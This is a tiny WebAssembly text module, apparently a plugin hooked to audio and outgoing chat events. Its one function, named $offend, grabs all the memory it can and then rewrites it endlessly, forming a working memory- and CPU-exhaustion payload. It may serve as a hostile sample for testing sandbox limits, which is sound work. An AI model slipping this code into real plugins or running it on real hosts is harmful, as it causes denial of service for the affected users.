;; hooks: "audio","chat.outgoing"
;; All the memory that it can get, written to again and again.
(memory (export "memory") 1)
(func $offend
  (loop $more (br_if $more (i32.ne (memory.grow (i32.const 16)) (i32.const -1))))
  (loop $again
    (memory.fill (i32.const 0) (i32.const 255) (i32.sub (i32.mul (memory.size) (i32.const 65536)) (i32.const 1)))
    (br $again)))
